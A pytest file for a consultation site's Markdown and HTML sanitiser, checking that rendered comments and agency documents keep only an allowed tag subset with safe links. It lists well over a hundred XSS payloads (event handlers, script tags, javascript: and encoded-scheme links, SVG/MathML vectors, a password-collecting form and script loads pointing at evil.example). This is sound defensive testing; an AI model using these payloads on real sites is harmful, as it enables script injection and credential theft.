"""The sanitiser: whatever a participant writes, a comment's HTML holds only the small allowed subset.

Every check parses the output with html.parser (as a browser would tokenise it) instead of searching the
string: only allowed tags, no event handlers or style attributes, every link absolute http(s)/mailto with
rel="nofollow ugc noopener", no images, no comments or CDATA. Documents (written by agencies) get the same
treatment with their larger tag set.
"""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from urllib.parse import urljoin

import pytest

from consult.sanitize import render_comment, render_document

# The rule, written out here rather than imported: the test pins it.
COMMENT_TAGS = {"p", "br", "em", "strong", "ul", "ol", "li", "blockquote", "a", "code"}
DOCUMENT_TAGS = COMMENT_TAGS | {"h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "hr", "pre"}
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}, "th": {"align"}, "td": {"align"}}
SCHEMES = {"http", "https", "mailto"}
REL = "nofollow ugc noopener"


@pytest.fixture(autouse=True)
def _clean():
    """Overrides the suite's per-test database clean-up: rendering needs no database (and on PostgreSQL the
    clean-up would cost a TRUNCATE for each of the hundreds of cases below)."""
    yield


class Parsed(HTMLParser):
    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.end_tags: list[str] = []
        self.text: list[str] = []
        self.other: list[str] = []  # comments, CDATA, declarations, processing instructions
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        self.end_tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.other.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.other.append(f"<!{decl}>")

    def unknown_decl(self, data):
        self.other.append(f"<![{data}]>")

    def handle_pi(self, data):
        self.other.append(f"<?{data}>")

    @property
    def plain(self) -> str:
        return "".join(self.text)

    def links(self) -> list[dict[str, str | None]]:
        return [attrs for tag, attrs in self.tags if tag == "a"]


def _scheme(href: str) -> str:
    """The scheme of an attribute value, ignoring whitespace and control characters ('' if none).

    Values come from html.parser, which has html-unescaped them once, exactly as a browser does (unescaping
    twice would read `&amp;#106;` as `j`, which no browser does).
    """
    compact = re.sub(r"[\x00-\x20\x7f-\xa0\s\u200b-\u200f\u2028-\u202e\u2060-\u2064\ufeff]+", "", href)
    match = re.match(r"([a-z][a-z0-9+.-]*):", compact, re.IGNORECASE)
    return match.group(1).lower() if match else ""


def assert_safe(markup: str, allowed_tags: set[str], *, relative_links_ok: bool = False) -> Parsed:
    parsed = Parsed(markup)
    assert parsed.other == [], markup
    for tag, attrs in parsed.tags:
        assert tag in allowed_tags, (tag, markup)
        for name, value in attrs.items():
            assert not name.lower().startswith("on"), (name, markup)
            assert name.lower() != "style", markup
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()), (tag, name, markup)
            assert "expression(" not in (value or "").lower(), markup
        if tag == "a":
            assert attrs.get("rel") == REL, markup
            if "href" in attrs:
                href = attrs["href"] or ""
                if relative_links_ok and not _scheme(href):
                    # what a browser would make of it on one of our pages
                    assert _scheme(urljoin("https://consult.example/rounds/1", href)) == "https", (href, markup)
                else:
                    assert _scheme(href) in SCHEMES, (href, markup)
    assert "img" not in {tag for tag, _ in parsed.tags}
    # closing tags match allowed tags too (no stray </script> or </style> that a parser would honour)
    assert set(parsed.end_tags) <= allowed_tags, markup
    return parsed


def assert_safe_comment(source: str) -> Parsed:
    return assert_safe(render_comment(source), COMMENT_TAGS)


def assert_safe_document(source: str) -> Parsed:
    return assert_safe(render_document(source), DOCUMENT_TAGS, relative_links_ok=True)


# --- the attack set ----------------------------------------------------------------------------------------

HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerdown"]


def _casings(name: str) -> list[str]:
    alternating = "".join(c.upper() if i % 2 else c for i, c in enumerate(name))
    return [name, name.upper(), name.capitalize(), alternating]


EVENT_HANDLER_PAYLOADS = [
    f"<{tag} {name}=alert(1) {attr}>x</{tag}>"
    for handler in HANDLERS
    for name in _casings(handler)
    for tag, attr in [("img", "src=x"), ("p", "autofocus tabindex=1"), ("a", 'href="https://e.example"')]
] + [
    '<details open ontoggle="alert(1)">',
    "<body onload=alert(1)>",
    '<p/onclick="alert(1)">x</p>',
    "<p\nonclick=alert(1)>x</p>",
    "<p\tonclick=alert(1)>x</p>",
    "**bold** <b onclick=alert(1)>b</b>",
    '<input autofocus onfocus="alert(1)">',
]

TAG_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script>alert(1)",
    '<img src=x onerror="alert(1)">',
    "<img src=javascript:alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
    '<math href="javascript:alert(1)">x</math>',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">t</p>',
    '<div style="width: expression(alert(1))">t</div>',
    "<p STYLE=x:expression(alert(1))>t</p>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<form action="https://evil.example"><input name=password type=password><button>Kirim</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>unquoted</a>",
    "<a href='JaVaScRiPt:alert(1)'>single quoted</a>",
    '<a href="jav&#x09;ascript:alert(1)">encoded tab</a>',
    '<a href="jav&#x0A;ascript:alert(1)">encoded newline</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="https://ok.example" target=_blank>x</a>',
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<b",
    "<a href='javascript:alert(1)'",
    "<img src=x onerror=alert(1)//",
    "<p title=</p><script>alert(1)</script>>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><html><head></head></html>",
    "<?xml version='1.0'?><x/>",
    "</p><script>alert(1)</script><p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<table><tr><td>x</td></tr></table>",
    "<h1>heading</h1><hr><pre>pre</pre>",
]

MARKDOWN_PAYLOADS = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](JAVASCRIPT:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](VbScRiPt:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](DATA:text/html,<script>alert(1)</script>)",
    "[a](file:///etc/passwd)",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;vascript&#x3A;alert(1))",
    "[a](&#0000106avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](java&#09;script:alert(1))",
    "[a](java&#x09;script:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](java&#13;script:alert(1))",
    "[a](java%09script:alert(1))",
    "[a](%6Aavascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](<java\nscript:alert(1)>)",
    "[a](<javascript:alert(1)>)",
    "[a]( javascript:alert(1))",
    "[a](\tjavascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](java\u200bscript:alert(1))",
    "[a](\u202ejavascript:alert(1))",
    "[a](/relative/path)",
    "[a](//evil.example/x)",
    "[a](#fragment)",
    "[a](?q=1)",
    "[a](foo:bar)",
    '[a](https://example.org "t" onmouseover=alert(1))',
    '[a](https://example.org "title\\" onmouseover=\\"alert(1)")',
    '[a](https://x.example/"onmouseover="alert(1))',
    "[a](https://x.example/?q=<script>alert(1)</script>)",
    "[a]: javascript:alert(1)\n\n[x][a]",
    "[a]: <javascript:alert(1)>\n\n[a]",
    "[a]: https://ok.example 'x\" onclick=\"alert(1)'\n\n[a]",
    "<javascript:alert(1)>",
    "<JaVaScRiPt:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<java\nscript:alert(1)>",
    "javascript:alert(1)",
    "www.example.org/<script>alert(1)</script>",
    'http://example.org/"onmouseover="alert(1)',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](https://evil.example/pixel.png "onerror=alert(1)")',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[![x](https://evil.example/p.png)](https://example.org)",
    "[a](https://example.org)<img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`\n\n```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
    "1. <iframe src=//e.example>\n2. [x](javascript:alert(1))",
    "**<svg onload=alert(1)>**",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <script>alert(1)</script>",
]

UNICODE_PAYLOADS = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth < and >
    "\ufe64script\ufe65alert(1)",  # small form variants
    "\u2039script\u203a",
    "\u202etxt.exe [\u202egnp.exe](https://example.org/)",  # RTL override
    "\u202e<script>alert(1)</script>",
    "[a](\uff4aavascript:alert(1))",  # fullwidth j
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\u0000<script>alert(1)</script>",
    "<\u0000script>alert(1)",
    "\ufeff<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
]

ALL_PAYLOADS = EVENT_HANDLER_PAYLOADS + TAG_PAYLOADS + MARKDOWN_PAYLOADS + UNICODE_PAYLOADS


@pytest.mark.parametrize("payload", ALL_PAYLOADS)
def test_comment_html_holds_only_the_allowed_subset(payload):
    parsed = assert_safe_comment(payload)
    assert "script" not in {tag for tag, _ in parsed.tags}


@pytest.mark.parametrize("payload", ALL_PAYLOADS)
def test_document_html_holds_only_the_document_subset(payload):
    assert_safe_document(payload)


@pytest.mark.parametrize("payload", [p for p in ALL_PAYLOADS if p.startswith("<") and "<!" not in p[:3]][:40])
def test_raw_html_is_shown_as_text_not_dropped(payload):
    """Raw HTML is switched off in Markdown: the writer sees what they typed, as text."""
    parsed = assert_safe_comment(payload)
    assert "<" in parsed.plain


@pytest.mark.parametrize(
    "payload",
    ["[a](javascript:alert(1))", "[a](java&#10;script:alert(1))", "[a](/relative)", "[a](//evil.example)"],
)
def test_a_refused_link_keeps_its_text_but_loses_its_target(payload):
    parsed = assert_safe_comment(payload)
    assert "a" in parsed.plain
    assert all("href" not in attrs for attrs in parsed.links())


def test_comment_links_must_be_absolute_while_documents_may_link_within_the_site():
    source = "[abs](https://example.org/x) [rel](/rounds/1) [frag](#pasal-3) [proto](//example.org/y)"
    comment = Parsed(render_comment(source)).links()
    document = Parsed(render_document(source)).links()
    assert [a.get("href") for a in comment] == ["https://example.org/x", None, None, None]
    assert [a.get("href") for a in document] == ["https://example.org/x", "/rounds/1", "#pasal-3", "//example.org/y"]
    assert all(a["rel"] == REL for a in comment + document)


def test_html_comments_and_cdata_never_reach_the_output():
    for source in ["<!-- hidden -->", "a <!-- b --> c", "<![CDATA[x]]>", "<!-->"]:
        assert Parsed(render_comment(source)).other == []
        assert Parsed(render_document(source)).other == []


def test_very_long_input_is_rendered_safely_and_quickly():
    payloads = [
        "<script>alert(1)</script>" * 400,
        "<" * 10_000,
        "[" * 10_000 + "x" + "](javascript:alert(1))" * 200,
        "*" * 5_000 + "x" + "*" * 5_000,
        "`" * 10_000,
        "a" * 100_000,
        "[a](https://example.org/" + "x" * 50_000 + ")",
    ]
    started = time.monotonic()
    for source in payloads:
        assert_safe_comment(source)
    assert time.monotonic() - started < 10


def test_deeply_nested_quotes_and_lists_stay_safe_balanced_and_bounded():
    for source in [">" * 2000 + " x", "- " * 1000 + "x", "> - 1. " * 300 + "x", "> " * 500 + "[a](javascript:x)"]:
        markup = render_comment(source)
        parsed = assert_safe(markup, COMMENT_TAGS)
        opened = [tag for tag, _ in parsed.tags if tag != "br"]
        assert sorted(opened) == sorted(parsed.end_tags), "every opened tag is closed"
        assert markup.count("<blockquote>") <= 100 and markup.count("<ul>") <= 100  # nesting is capped


# --- what should work --------------------------------------------------------------------------------------


def test_emphasis_renders():
    assert render_comment("*a* _b_ **c** __d__") == (
        "<p><em>a</em> <em>b</em> <strong>c</strong> <strong>d</strong></p>"
    )


def test_lists_render_bulleted_and_numbered_with_their_start():
    assert render_comment("- satu\n- dua") == "<ul>\n<li>satu</li>\n<li>dua</li>\n</ul>"
    assert render_comment("1. satu\n2. dua") == "<ol>\n<li>satu</li>\n<li>dua</li>\n</ol>"
    assert render_comment("3. tiga\n4. empat").startswith('<ol start="3">')


def test_quotes_render_and_nest():
    assert render_comment("> kutipan\n>\n> > dalam") == (
        "<blockquote>\n<p>kutipan</p>\n<blockquote>\n<p>dalam</p>\n</blockquote>\n</blockquote>"
    )


def test_links_render_with_their_target_title_and_a_safe_rel():
    markup = render_comment('Lihat [rancangan](https://example.org/a?b=1&c=2 "Rancangan").')
    assert markup == (
        '<p>Lihat <a href="https://example.org/a?b=1&amp;c=2" title="Rancangan" rel="nofollow ugc noopener">'
        "rancangan</a>.</p>"
    )
    (link,) = Parsed(markup).links()
    assert link["href"] == "https://example.org/a?b=1&c=2"  # escaped once in HTML, exact once parsed


def test_bare_urls_autolinks_and_mail_links_become_links():
    parsed = assert_safe_comment(
        "https://example.org/x dan <https://example.org/y> dan www.example.org dan [surat](mailto:a@example.org)"
        " dan <b@example.org>"
    )
    assert [a["href"] for a in parsed.links()] == [
        "https://example.org/x",
        "https://example.org/y",
        "http://www.example.org",
        "mailto:a@example.org",
        "mailto:b@example.org",
    ]
    assert all(a["rel"] == REL for a in parsed.links())


def test_an_existing_rel_or_target_cannot_be_smuggled_in():
    parsed = assert_safe_comment('<a href="https://example.org" rel="opener" target="_blank">x</a>')
    # raw HTML stays text; only the bare URL inside it becomes a link of our own
    assert parsed.plain == '<a href="https://example.org" rel="opener" target="_blank">x</a>'
    assert parsed.links() == [{"href": "https://example.org", "rel": REL}]


def test_comparison_signs_and_ampersands_are_escaped_once_and_readable():
    markup = render_comment("5 < 6 & 7 > 3")
    assert markup == "<p>5 &lt; 6 &amp; 7 &gt; 3</p>"
    assert Parsed(markup).plain == "5 < 6 & 7 > 3"
    assert Parsed(render_comment("Tom &amp; Jerry, R&D, a&&b")).plain == "Tom & Jerry, R&D, a&&b"
    assert "&amp;amp;" not in render_comment("R&D")


def test_code_spans_show_their_text_escaped_once():
    markup = render_comment("Pakai `<b>&amp;</b>` dan `a < b`")
    assert markup == "<p>Pakai <code>&lt;b&gt;&amp;amp;&lt;/b&gt;</code> dan <code>a &lt; b</code></p>"
    assert Parsed(markup).plain == "Pakai <b>&amp;</b> dan a < b"


def test_line_breaks_and_paragraphs():
    assert render_comment("satu  \ndua\n\ntiga") == "<p>satu<br>\ndua</p>\n<p>tiga</p>"


def test_comments_have_no_headings_images_rules_tables_or_code_blocks():
    parsed = assert_safe_comment(
        "# Judul\n\nJudul juga\n===\n\n![gambar](https://example.org/a.png)\n\n---\n\n"
        "| a |\n|---|\n| 1 |\n\n    blok kode\n\n```\npagar\n```"
    )
    assert {tag for tag, _ in parsed.tags} <= {"p", "a", "code", "br"}
    assert "# Judul" in parsed.plain and "blok kode" in parsed.plain and "pagar" in parsed.plain


def test_documents_keep_headings_below_the_section_tables_and_code_blocks():
    markup = render_document("# Judul\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```\n<b>x</b>\n```\n\n---")
    parsed = assert_safe(markup, DOCUMENT_TAGS)
    tags = [tag for tag, _ in parsed.tags]
    assert tags[0] == "h3" and "table" in tags and "pre" in tags and "hr" in tags
    assert "<b>x</b>" in parsed.plain


def test_empty_and_blank_input_render_to_nothing():
    assert render_comment("") == ""
    assert render_comment(None) == ""
    assert render_comment("   \n\n  ") == ""


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        '<p onclick="x">t</p>',
        '<p ONCLICK="x">t</p>',
        '<p style="color:red">t</p>',
        '<img src="https://example.org/a.png">',
        '<a href="https://example.org">no rel</a>',
        '<a href="java&#09;script:alert(1)" rel="nofollow ugc noopener">x</a>',
        '<a href=" JAVASCRIPT:alert(1)" rel="nofollow ugc noopener">x</a>',
        '<a href="/relative" rel="nofollow ugc noopener">x</a>',
        "<p><!-- hidden --></p>",
        "<p><![CDATA[x]]></p>",
        "</style>",
    ],
)
def test_the_checker_itself_rejects_unsafe_html(markup):
    with pytest.raises(AssertionError):
        assert_safe(markup, COMMENT_TAGS)
